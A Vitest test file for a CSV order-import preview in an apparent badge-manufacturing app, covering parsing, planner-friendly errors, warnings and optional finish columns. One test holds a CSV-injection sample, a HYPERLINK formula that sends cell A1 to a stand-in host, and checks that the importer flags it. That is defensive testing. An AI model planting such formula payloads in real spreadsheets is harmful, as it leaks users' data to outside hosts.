import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { IMPORT_COLUMNS, IMPORT_EXAMPLE, formatColoursCell, parseColoursCell, previewOrderImport } from './order-import';

// files written before the second-finish and texture columns existed still import: those two are optional
const header = IMPORT_COLUMNS.filter((c) => c !== 'secondPlating' && c !== 'sandblast').join(',');
const good =
  'Harbour Rowing Club,Club crest,pin,hard_enamel,iron,25,500,5,"Navy (C-281) #1b2a4a; White #ffffff",gold,butterfly_clutch,1,no,no,no,individual_bag,2026-05-29,';

describe('CSV import preview', () => {
  it('the example file imports', () => {
    const p = previewOrderImport(IMPORT_EXAMPLE);
    expect(p.fileErrors).toEqual([]);
    expect(p.validCount).toBe(1);
    expect(p.rows[0].spec).toMatchObject({
      customer: 'Harbour Rowing Club',
      process: 'hard_enamel',
      sizeMm: 25,
      quantity: 500,
      overrunPct: 5,
      colours: [
        { name: 'Navy', ref: 'C-281', hex: '#1b2a4a' },
        { name: 'White', hex: '#ffffff' },
      ],
      backing: { type: 'butterfly_clutch', count: 1 },
      backLogo: false,
    });
  });

  it('names the bad cell of each bad row and keeps the good rows', () => {
    const csv = [
      header,
      good,
      'Harbour Rowing Club,Oars,pin,hard_enamel,iron,25,lots,5,Navy,gold,butterfly_clutch,1,no,no,no,individual_bag,2026-05-29,',
      'Harbour Rowing Club,Oars,pin,glass,iron,25,100,5,Navy,gold,butterfly_clutch,1,no,no,no,individual_bag,2026-02-30,',
      'Harbour Rowing Club,Oars,pin,hard_enamel,iron,25,100,15,Navy #12345,gold,butterfly_clutch,1,maybe,no,no,individual_bag,2026-05-29,',
    ].join('\n');
    const p = previewOrderImport(csv);
    expect(p.fileErrors).toEqual([]);
    expect(p.validCount).toBe(1);
    expect(p.rows.map((r) => r.line)).toEqual([2, 3, 4, 5]);
    expect(p.rows[1].errors.map((e) => e.column)).toEqual(['quantity']);
    expect(p.rows[2].errors.map((e) => e.column).sort()).toEqual(['dueDate', 'process']);
    // overrun above 10 %, a boolean that is neither yes nor no
    expect(p.rows[3].errors.map((e) => e.column).sort()).toEqual(['backLogo', 'overrunPct']);
  });

  it('accepts the words people type: labels, semicolons, yes/no, decimal comma', () => {
    const csv = [
      'Customer;Title;Process;Material;Size;Qty;Colours;Plating;Fitting;Fitting count;Back logo;Packaging;Due',
      'Lantern Society;Anniversary;3D die-cast;Zinc;"38,5";200;Gold;Antique gold;Magnet;1;yes;Gift box;2026-06-01',
    ].join('\n');
    const p = previewOrderImport(csv);
    expect(p.fileErrors).toEqual([]);
    expect(p.rows[0].errors).toEqual([]);
    expect(p.rows[0].spec).toMatchObject({
      process: 'die_cast_3d',
      material: 'zinc_alloy',
      sizeMm: 38.5,
      plating: 'antique_gold',
      backing: { type: 'magnet', count: 1 },
      backLogo: true,
      packaging: 'gift_box',
    });
  });

  it('an unusual size warns but imports', () => {
    const p = previewOrderImport([header, good.replace(',25,500,', ',140,500,')].join('\n'));
    expect(p.validCount).toBe(1);
    expect(p.rows[0].warnings[0].code).toBe('size_unusual');
  });

  it('points out cells a spreadsheet would run as formulas (OWASP CSV Injection)', () => {
    const evil = good.replace('Harbour Rowing Club', '"=HYPERLINK(""http://x/?""&A1,""Open"")"').replace('Club crest', '@SUM(1)');
    const p = previewOrderImport([header, evil, good].join('\n'));
    expect(p.rows[0].formulaCells.map((f) => f.column)).toEqual(['customer', 'title']);
    expect(p.rows[0].formulaCells[0].message).toMatch(/formula/);
    expect(p.rows[1].formulaCells).toEqual([]);
  });

  it('refuses files that are not order CSVs', () => {
    expect(previewOrderImport('').fileErrors).toEqual(['The file is empty']);
    expect(previewOrderImport('%PDF-1.7\n1 0 obj').fileErrors.length).toBeGreaterThan(0);
    expect(previewOrderImport(header).fileErrors).toContain('The file has a header but no orders');
    expect(previewOrderImport('title,quantity\nA,1').fileErrors[0]).toMatch(/Missing columns: customer/);
    const allBad = previewOrderImport([header, good.replace('hard_enamel', 'glass')].join('\n'));
    expect(allBad.validCount).toBe(0);
    expect(allBad.fileErrors).toContain('No row can be imported');
  });

  it('reports unknown columns without failing', () => {
    const p = previewOrderImport([`${header},salesRep`, `${good},Ana`].join('\n'));
    expect(p.unknownColumns).toEqual(['salesRep']);
    expect(p.validCount).toBe(1);
  });

  it('colours round-trip through the cell format', () => {
    const colours = [{ name: 'Navy', ref: 'C-281', hex: '#1b2a4a' }, { name: 'Gold' }, { name: 'Sky blue', hex: '#7fb3e0' }];
    expect(parseColoursCell(formatColoursCell(colours))).toEqual(colours);
    // and survive CSV quoting done by an independent writer (papaparse unparse)
    const line = Papa.unparse([[formatColoursCell(colours)]]);
    expect(parseColoursCell(Papa.parse<string[]>(line, { delimiter: ',' }).data[0][0])).toEqual(colours);
  });

  it('says what is wrong with a cell as a planner would, with a code and values for other languages', () => {
    const csv = [
      header,
      good.replace('hard_enamel', 'glass'),
      good.replace(',no,no,no,', ',maybe,no,no,'),
      good.replace(',25,500,', ',25,lots,'),
      good.replace('2026-05-29', '29/05/2026'),
    ].join('\n');
    const [process, yesNo, qty, date] = previewOrderImport(csv).rows.map((r) => r.errors[0]);
    expect(process).toMatchObject({ column: 'process', code: 'not_a_choice', params: { value: 'glass' } });
    expect(process.message).toMatch(/^"glass" is not a process we make; write one of: hard_enamel, soft_enamel/);
    expect(yesNo).toMatchObject({ column: 'backLogo', code: 'not_yes_no' });
    expect(yesNo.message).toBe('Write yes or no for back logo (the file has "maybe").');
    expect(qty).toMatchObject({ column: 'quantity', code: 'not_a_number' });
    expect(date).toMatchObject({ column: 'dueDate', code: 'not_a_date' });
    // no programmer's words: no "expected", no "received", no "Invalid option"
    for (const e of [process, yesNo, qty, date]) expect(e.message).not.toMatch(/expected|received|invalid/i);
  });

  it('warns about a due date already past, and still imports the row', () => {
    const p = previewOrderImport([header, good.replace('2026-05-29', '2020-01-01'), good].join('\n'), '2026-05-01');
    expect(p.validCount).toBe(2);
    expect(p.rows[0].warnings).toEqual([expect.objectContaining({ code: 'due_in_past', params: { due: '2020-01-01' } })]);
    expect(p.rows[1].warnings).toEqual([]);
  });
});

describe('CSV import: second finish and sandblast columns', () => {
  const full = IMPORT_COLUMNS.join(',');
  const row = (secondPlating: string, sandblast: string, process = 'die_struck', colours = '') =>
    `Harbour Rowing Club,Oars,pin,${process},brass,25,500,5,${colours},antique_gold,butterfly_clutch,1,no,no,no,individual_bag,2026-05-29,,${secondPlating},${sandblast}`;

  it('reads a two-tone, sandblasted die-struck order', () => {
    const p = previewOrderImport([full, row('black nickel', 'yes')].join('\n'));
    expect(p.rows[0].errors).toEqual([]);
    expect(p.rows[0].spec).toMatchObject({ plating: 'antique_gold', secondPlating: 'black_nickel', sandblast: true });
  });

  it('an empty second finish is one finish, an empty sandblast none', () => {
    const p = previewOrderImport([full, row('', '')].join('\n'));
    expect(p.rows[0].spec).toMatchObject({ secondPlating: null, sandblast: false });
  });

  it('names the cell of a contradictory spec: a second finish equal to the first, a die-struck badge with colours', () => {
    const p = previewOrderImport([full, row('antique_gold', 'no'), row('', 'no', 'die_struck', 'Navy')].join('\n'));
    expect(p.rows[0].errors.map((e) => e.column)).toEqual(['secondPlating']);
    expect(p.rows[1].errors.map((e) => e.column)).toEqual(['colours']);
    expect(p.validCount).toBe(0);
  });

  it('an unknown second finish is named', () => {
    const p = previewOrderImport([full, row('glitter', 'no')].join('\n'));
    expect(p.rows[0].errors.map((e) => e.column)).toEqual(['secondPlating']);
  });
});
